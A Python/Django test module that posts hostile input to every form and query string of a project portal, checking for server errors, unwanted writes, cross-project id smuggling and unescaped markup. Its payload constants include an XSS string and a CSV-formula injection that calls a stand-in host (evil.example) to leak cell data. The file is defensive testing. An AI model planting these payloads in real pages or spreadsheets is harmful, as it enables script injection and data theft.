"""Hostile input to every form of the portal, for every role that may post to it.

The forms come from the URLconf, through the tables of test_form_errors (POST_URLS: every
URL whose view takes POST) and test_authorization (MATRIX: who may reach each URL, and
how to build its arguments), so a new form is covered here without a new test. Each
form is fetched as each user the MATRIX lets use it, then posted back with one field at
a time spoilt, by the field's type: empty, 10,000 characters, a NUL byte, emoji,
right-to-left text, invalid and impossible dates, -1, 1e308, NaN, infinity, HTML and
CSV-formula payloads, and another project's id (Borgo's) in each id or choice field.

What must hold for every post:
- never a 5xx;
- a value the form must refuse (a NUL byte, a number that is not one, an impossible
  date, an overlong text where there is a limit, an empty required field, an id the
  user may not choose) leaves every table of the portal as it was;
- a refused form (the page again, or 4xx) saved nothing, whatever the value;
- markup typed in is never sent back unescaped.

Every post runs in a savepoint rolled back afterwards, and the world is built once per
module (and per xdist worker), so a form is posted hundreds of times on the same rows.
Writes are watched in the SQL sent: only when a post wrote to a table of the portal is
the full fingerprint of test_form_errors compared (a write may leave the data equal).
"""

import re
from pathlib import Path

import django_filters
import pytest
from django import forms
from django.apps import apps
from django.contrib.auth import get_user_model
from django.contrib.auth.tokens import default_token_generator
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext, override_settings
from django.urls import reverse
from django.utils.encoding import force_bytes
from django.utils.http import urlsafe_base64_encode

from beneficiaries import models as b
from labs import models as labs
from partners.models import Organisation
from tests import budget_builders as money
from tests import conftest, placement_builders
from tests import factories as f
from tests import governance_builders as gov
from tests.portal.test_authorization import MATRIX, SIGNED_IN, USERS, borgo_building, borgo_period
from tests.portal.test_form_errors import (
    NO_FORM_ON_GET,
    NOT_DATA,
    POST_ONLY_ACCEPTED,
    POST_ONLY_PAYLOADS,
    POST_URLS,
    base_payload,
    fingerprint,
    parse,
)

NUL = "abc\x00def"
LONG = "x" * 10_000
EMOJI = "Casa 🏠👩‍👧‍👦 ✅"
RTL = "\u202eمرحبا بالعالم \u05e9\u05dc\u05d5\u05dd"
HTML = '<script>alert("q")</script><img src=x onerror=alert(1)>'
CSV = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
# What a text field may well accept, in one value: a CSV formula first (as a cell would
# start), emoji, right-to-left text and markup.
ODD_TEXT = f"{CSV} {EMOJI} {RTL} {HTML}"
BAD_DATES = ["2025-02-30", "0000-00-00"]  # impossible, invalid
BAD_NUMBERS = ["1e308", "NaN", "-Infinity"]
# Not ids, though str.isdigit() says so ("²").
BAD_IDS = ["²", NUL]
MISSING_PK = "987654321"

# Who may post: the users the MATRIX lets reach the URL (a POST-only action answers 405
# to a GET; set_language answers 302).
MAY_POST = (200, 302, 405)

DATA_TABLES = {m._meta.db_table for m in apps.get_models() if m._meta.app_label not in NOT_DATA}
WRITE = re.compile(r'^\s*(?:INSERT\s+INTO|UPDATE|DELETE\s+FROM)\s+"?([\w]+)"?', re.IGNORECASE)


def posters(name: str) -> list[str]:
    """The users who may post to the URL. A page open to every signed-in user whatever
    their role (password change) is posted by one of them, with no role anywhere."""
    _build, expected = MATRIX[name]
    users = [u for u in USERS if expected.get(u) in MAY_POST]
    if set(SIGNED_IN) <= set(users):
        users = [u for u in users if u == "anonymous"] + ["olga"]
    return users


HOSTILE_URLS = [name for name in POST_URLS if name in MATRIX]
CASES = [(name, user) for name in HOSTILE_URLS for user in posters(name)]


def test_every_form_url_is_posted_by_someone():
    assert len(HOSTILE_URLS) == len(POST_URLS) > 40
    missing = sorted({name for name in HOSTILE_URLS} - {name for name, _u in CASES})
    assert not missing, f"nobody posts to {missing}"


# ---- The world, once per module --------------------------------------------------------


def foreign_objects(w) -> dict:
    """One object of Borgo for each model a Valle form may offer, by model."""
    b_activity = w.b_session.activity
    lab = f.LabFactory(project=w.b, name="Lab Borgo")
    building = labs.Building.objects.get(pk=borgo_building(w)["pk"])
    unit = f.HousingUnitFactory(building=building, owner_code="BOR-1")
    w.b_session.lab = lab
    w.b_session.save()
    borgo_partner = money.borgo_partner(w)
    path = f.PathFactory(person=w.carla, project=w.b, axis=b_activity.axis)
    return {
        b.Person: w.carla,
        b.Household: w.b_household,
        b.Path: path,
        labs.Session: w.b_session,
        labs.Activity: b_activity,
        labs.Axis: b_activity.axis,
        labs.Lab: lab,
        labs.Building: building,
        labs.HousingUnit: unit,
        labs.ReportingPeriod: labs.ReportingPeriod.objects.get(pk=borgo_period(w)["pk"]),
        labs.StaffMember: money.staff(w, project=w.b, organisation=borgo_partner),
        labs.BudgetLine: money.line(w, project=w.b, organisation=borgo_partner),
        Organisation: w.borgo,
        get_user_model(): w.bruno,
        labs.Body: gov.body(w, w.b, name="Équipe Borgo"),
        labs.BodyMember: gov.member(w, w.b),
        labs.HostCompany: placement_builders.company(w, w.b),
    }


@pytest.fixture(scope="module")
def hostile_world(django_db_setup, django_db_blocker, tmp_path_factory):
    """The named world with its files and reports, and Borgo's objects to smuggle in:
    written once, rolled back when the module ends. Each test runs in a savepoint."""
    media = tmp_path_factory.mktemp("media")
    # Reports are queued, as everywhere (the test settings): the request is what is tested
    # here; building the PDF is tests/reporting/test_report_lifecycle.py's.
    with override_settings(MEDIA_ROOT=media), django_db_blocker.unblock():
        with transaction.atomic():
            w = conftest.add_files_and_reports(conftest.build_world())
            w.foreign = foreign_objects(w)
            # A person of Valle linked to nobody, for the link action.
            w.lucia = f.PersonFactory(first_name="Lucia", last_name="Galli")
            b.Registration.objects.create(project=w.a, person=w.lucia, registered_on=w.a.start_date)
            yield w
            transaction.set_rollback(True)


# ---- What to post ----------------------------------------------------------------------


def field_kind(field: dict, dj) -> str | None:
    kind = field["type"]
    if kind in ("submit", "button", "reset", "image"):
        return None
    if kind == "file":
        return "file"
    if isinstance(dj, forms.MultipleChoiceField | forms.ModelMultipleChoiceField) or (
        kind == "checkbox" and len(field.get("options", [])) > 1
    ):
        return "multi"
    if kind == "checkbox" or isinstance(dj, forms.BooleanField):
        return "bool"
    if kind == "hidden":
        return "hidden"
    if isinstance(dj, forms.ChoiceField | forms.ModelChoiceField) or kind in ("select", "radio"):
        return "choice"
    if isinstance(dj, forms.DateField) or kind == "date":
        return "date"
    if isinstance(dj, forms.TimeField) or kind == "time":
        return "time"
    numeric = forms.IntegerField | forms.DecimalField | forms.FloatField
    if (
        isinstance(dj, numeric)
        or kind == "number"
        or field.get("inputmode") in ("decimal", "numeric")
    ):
        return "number"
    if kind == "password":
        return "password"
    return "text"


def foreign_ids(dj, field: dict, w) -> list[str]:
    """Another project's object of the model the field chooses from, and a missing id.
    The foreign object is never among the options (that would be the leak itself)."""
    queryset = getattr(dj, "queryset", None)
    if queryset is None:
        return [MISSING_PK]
    foreign = w.foreign.get(queryset.model)
    assert foreign is not None, f"add a Borgo {queryset.model.__name__} to foreign_objects"
    value = str(getattr(foreign, dj.to_field_name or "pk"))
    assert value not in field.get("options", []), f"{foreign!r} of Borgo is offered"
    return [value, MISSING_PK]


def hostile_values(name: str, field: dict, dj, w, *, full: bool) -> list[tuple[object, bool]]:
    """(value, must the form refuse it?) for one field. Not ``full``: only what depends on
    who posts, the ids of the choices (another role sees other choices)."""
    kind = field_kind(field, dj)
    if not full and kind not in ("choice", "multi"):
        return []
    if kind in (None, "file"):
        return []
    disabled = "disabled" in field or getattr(dj, "disabled", False)
    required = dj.required if dj is not None else "required" in field
    django_text = isinstance(dj, forms.CharField)  # ProhibitNullCharactersValidator
    options = field.get("options", [])

    def strict(pairs):
        # An empty optional field is an ordinary answer, not worth a post.
        pairs = [(v, refuse) for v, refuse in pairs if v != "" or required]
        if not full:
            pairs = [(v, refuse) for v, refuse in pairs if v in foreign_values]
        return [(v, refuse and not disabled) for v, refuse in pairs]

    foreign_values: list[str] = []
    if kind in ("choice", "multi") and dj is not None:
        foreign_values = foreign_ids(dj, field, w)

    if kind == "text":
        limit = getattr(dj, "max_length", None) or field.get("maxlength")
        return strict([("", required), (LONG, bool(limit)), (NUL, django_text), (ODD_TEXT, False)])
    if kind == "password":
        return strict([("", required), (NUL, django_text), (LONG, False)])
    if kind == "number":
        floor = getattr(dj, "min_value", None)
        if floor is None and field.get("min"):
            floor = float(field["min"])
        return strict(
            [("", required), ("-1", floor is not None and floor >= 0)]
            + [(v, True) for v in BAD_NUMBERS]
            + [(NUL, True)]
        )
    if kind == "date":
        return strict([("", required), *[(v, True) for v in BAD_DATES], (NUL, True)])
    if kind == "time":
        return strict([("", required), ("25:99", True), (NUL, True)])
    if kind == "choice":
        judged = dj is not None  # a choice the view reads by hand may ignore junk
        bad = [*foreign_values, *BAD_IDS] if judged else BAD_IDS
        return strict([("", required)] + [(v, judged) for v in bad if v not in options])
    if kind == "multi":
        ticked = field["values"] or options[:1]
        bad = [*foreign_values, "²", NUL]
        pairs = [(v, dj is not None) for v in bad if v not in options]
        if not full:
            pairs = [(v, refuse) for v, refuse in pairs if v in foreign_values]
        return [([*ticked, v], refuse and not disabled) for v, refuse in pairs]
    if kind == "bool":
        return [(NUL, False)]
    if kind == "hidden":
        if name == "version" or name.endswith("-version"):
            return strict([(v, True) for v in ["-1", "²", *BAD_NUMBERS, NUL]])
        return [(NUL, False), (LONG, False)]
    raise AssertionError(kind)


# ---- How to post -----------------------------------------------------------------------


def data_written() -> CaptureQueriesContext:
    return CaptureQueriesContext(connection)


def wrote_data(queries: CaptureQueriesContext) -> bool:
    for query in queries.captured_queries:
        match = WRITE.match(query["sql"])
        if match and match.group(1) in DATA_TABLES:
            return True
    return False


def post(client, url, data, label, *, before, must_refuse):
    """Post in a savepoint rolled back afterwards; check the answer and the tables."""
    with transaction.atomic():
        with data_written() as queries:
            response = client.post(url, data)
        status = response.status_code
        assert status < 500, (label, status)
        refused = status == 200 or status >= 400
        if (must_refuse or refused) and wrote_data(queries):
            assert fingerprint() == before, f"{label}: answered {status} and saved data"
        if "text/html" in response.get("Content-Type", ""):
            page = response.content.decode()
            assert HTML not in page, f"{label}: markup sent back unescaped"
        transaction.set_rollback(True)
    return response


def form_of(response):
    context = response.context or {}
    try:
        form = context["form"]
    except KeyError:
        return None
    return form if hasattr(form, "fields") else None


def django_field(form, html_name: str):
    if form is None:
        return None
    for name, field in form.fields.items():
        if form.add_prefix(name) == html_name:
            return field
    return None


def sampled(fields: dict) -> dict:
    """Fields that repeat one shape (a time sheet's cells h-<axis>-<activity>-<day>, a
    register's hours_<person>): the first of each shape stands for the others."""
    seen: dict[str, int] = {}
    kept = {}
    for name, field in fields.items():
        shape = re.sub(r"\d+", "N", name)
        seen[shape] = seen.get(shape, 0) + 1
        if seen[shape] == 1:
            kept[name] = field
    return kept


def url_of(name: str, user: str, w) -> str:
    build, _expected = MATRIX[name]
    return reverse(name, kwargs=build(w))


@pytest.mark.parametrize(("name", "user"), CASES, ids=[f"{n}-{u}" for n, u in CASES])
def test_hostile_input_never_breaks_or_saves(hostile_world, db, client, name, user):
    w = hostile_world
    if user != "anonymous":
        client.force_login(getattr(w, user))
    url = url_of(name, user, w)
    label = f"{name} as {user}"
    # Every value for the first role that may post; for the others, what their role
    # changes: the choices, so the ids (another project's, a missing one).
    full = user == posters(name)[0]

    if name in POST_ONLY_PAYLOADS or name in POST_ONLY_ACCEPTED:
        post_only(client, url, name, label, w)
        return
    if name == "password_reset_confirm":
        # A valid link: Django swaps the token for a session key and redirects.
        alice = get_user_model().objects.get(pk=w.alice.pk)  # as stored: the token reads it
        uid = urlsafe_base64_encode(force_bytes(alice.pk))
        token = default_token_generator.make_token(alice)
        url = client.get(reverse(name, args=[uid, token]), follow=True).redirect_chain[-1][0]
    response = client.get(url)
    before = fingerprint()
    if name in NO_FORM_ON_GET:
        assert response.status_code == 302, label
        for value in (NUL, LONG, "1e308", HTML):
            data = {"t": value, "version": value, "file": value}
            post(client, url, data, f"{label}, {value[:10]!r}", before=before, must_refuse=False)
        return
    assert response.status_code == 200, (label, response.status_code)
    forms_on_page = [f for f in parse(response).forms if f["action"] in ("", url)]
    assert forms_on_page, f"{label}: no POST form on the page"
    page_form = max(forms_on_page, key=lambda f: len(f["fields"]))
    dj_form = form_of(response)
    base = base_payload(page_form)
    for field_name, field in sampled(page_form["fields"]).items():
        dj = django_field(dj_form, field_name)
        for value, must_refuse in hostile_values(field_name, field, dj, w, full=full):
            shown = value if isinstance(value, str) else value[-1]
            post(
                client,
                url,
                {**base, field_name: value},
                f"{label}, {field_name}={shown[:12]!r}",
                before=before,
                must_refuse=must_refuse,
            )


def post_only(client, url, name, label, w):
    """Actions without a form page: their few fields, spoilt one at a time."""
    before = fingerprint()
    if name == "people:person-link":
        base = {"person": str(w.lucia.pk), "same_as": str(w.giulia.pk), "note": "prova"}
        spoilt = {
            "person": [str(w.carla.pk), MISSING_PK, *BAD_IDS, EMOJI],
            "same_as": [str(w.carla.pk), MISSING_PK, *BAD_IDS, EMOJI],
            "note": [NUL, LONG, ODD_TEXT],
        }
        for key, values in spoilt.items():
            for value in values:
                post(
                    client,
                    url,
                    {**base, key: value},
                    f"{label}, {key}={value[:12]!r}",
                    before=before,
                    must_refuse=key != "note" or value == NUL,
                )
        return
    # The others need no field (the action is the URL): what they are sent besides is
    # ignored or refused, never a 500. Two posts each, all their keys spoilt at once:
    # generating a report is slow.
    keys = ("version", "pk", "next", "language", "reason", "person")
    for value in (NUL, "²"), (LONG, HTML):
        data = {key: value[n % 2] for n, key in enumerate(keys)}
        post(client, url, data, f"{label}, {value[0][:12]!r}", before=before, must_refuse=False)


def query_parameters() -> set[str]:
    """Every query-string key a view reads: by name in the source, and the filter
    sets' fields, so a new one joins the test below on its own."""
    root = Path(__file__).resolve().parents[2]
    keys = {"page", "q", "o", "sort"}
    pattern = re.compile(r'GET\.get(?:list)?\("(\w+)"|search_param\(self\.request, "(\w+)"')
    for app in ("labs", "beneficiaries", "reporting", "partners"):
        for source in (root / app).rglob("*.py"):
            for match in pattern.finditer(source.read_text()):
                keys.add(match.group(1) or match.group(2))
    for filterset in django_filters.FilterSet.__subclasses__():
        keys.update(filterset.base_filters)
    return keys


def test_hostile_query_strings_never_break_a_page(hostile_world, db, client):
    """Every page, for the first user who may open it, with every query-string key
    spoilt at once: a NUL (PostgreSQL refuses it in a query), 10,000 characters, a
    number that is not one. A search or filter answers a page or a 4xx, never 500."""
    w = hostile_world
    keys = query_parameters()
    assert {"q", "cerca", "periodo", "building", "month"} <= keys
    opened = 0
    for name, (build, expected) in sorted(MATRIX.items()):
        user = next((u for u in SIGNED_IN if expected[u] == 200), None)
        if user is None or name in ("logout", "set_language"):
            continue
        client.force_login(getattr(w, user))
        url = reverse(name, kwargs=build(w))
        # A NUL within 10,000 characters, and a digit that int() refuses.
        for value in (NUL + LONG, "²"):
            response = client.get(url, {key: value for key in keys})
            assert response.status_code < 500, (name, user, value[:8], response.status_code)
            opened += response.status_code == 200
    assert opened > 100
